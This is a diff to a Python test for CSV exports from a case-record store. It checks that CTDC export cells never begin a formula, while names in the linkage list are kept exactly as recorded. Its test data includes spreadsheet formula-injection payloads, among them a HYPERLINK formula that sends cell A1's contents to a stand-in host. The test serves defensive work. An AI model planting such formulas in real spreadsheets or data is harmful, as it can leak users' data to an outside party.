@@ -185,19 +185,21 @@ def test_same_name_in_two_organisations_is_not_linkable_in_the_database(store, p
 
 
 # -- exports -----------------------------------------------------------------------------------------------
-def test_exported_cells_never_start_a_formula(store, people, tmp_path):
+def test_ctdc_cells_never_start_a_formula_and_linkage_names_stay_as_given(store, people, tmp_path):
     names = {"prs_FirstName": '=HYPERLINK("http://x.example/?"&A1,"open")', "prs_SecondName": "@SUM(1+1)"}
     store.create_case(people["kim"], CaseInput({**names, "prs_MiddleName": "+cmd"}, BOTH))
     store.create_case(people["kim"], CaseInput({"prs_FirstName": "-2+3", "prs_SecondName": "Park"}, BOTH))
     store.export_list(people["admin"], tmp_path / "list.csv")
     store.export_ctdc(people["admin"], tmp_path / "ctdc.csv")
-    for name in ("list.csv", "ctdc.csv"):
-        with open(tmp_path / name, encoding="utf-8", newline="") as handle:
-            cells = [c for row in csv.reader(handle) for c in row]
-        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-99")], name
+    with open(tmp_path / "ctdc.csv", encoding="utf-8", newline="") as handle:
+        cells = [c for row in csv.reader(handle) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-99")]
+    # the linkage list feeds darkfigure encode/link, not a spreadsheet: an apostrophe would change the
+    # name that gets encoded (walkthrough item 11), so its names are written exactly as recorded
     with open(tmp_path / "list.csv", encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
-    assert rows[0]["family_name"] == "'@SUM(1+1)" and rows[1]["family_name"] == "Park"
+    assert rows[0]["family_name"] == "@SUM(1+1)" and rows[0]["given_name"] == names["prs_FirstName"] + " +cmd"
+    assert rows[1]["given_name"] == "-2+3" and rows[1]["family_name"] == "Park"
 
 
 # -- passwords and log-in ----------------------------------------------------------------------------------
